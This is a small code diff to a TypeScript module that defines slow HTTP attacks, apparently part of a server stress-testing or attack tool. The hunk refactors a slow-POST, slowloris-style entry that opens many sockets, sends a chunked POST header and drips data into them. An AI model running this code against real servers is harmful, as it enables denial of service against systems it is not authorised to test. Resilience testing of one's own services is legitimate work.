@@ -104,7 +104,8 @@ export const SLOW: readonly Attack[] = [
     needs: ["http"],
     async run(attacker) {
       const { path, authority } = placeOf(attacker.target.http!);
-      const head = `POST ${path} HTTP/1.1\r\nHost: ${authority}\r\nTransfer-Encoding: chunked\r\n\r\n`;
+      const chunked = "Transfer-Encoding: chunked";
+      const head = `POST ${path} HTTP/1.1\r\nHost: ${authority}\r\n${chunked}\r\n\r\n`;
       const sockets = await attacker.openSockets(CONNECTIONS);
       for (const socket of sockets) socket.write(head);
       await dripInto(attacker, sockets, "1\r\n[\r\n");
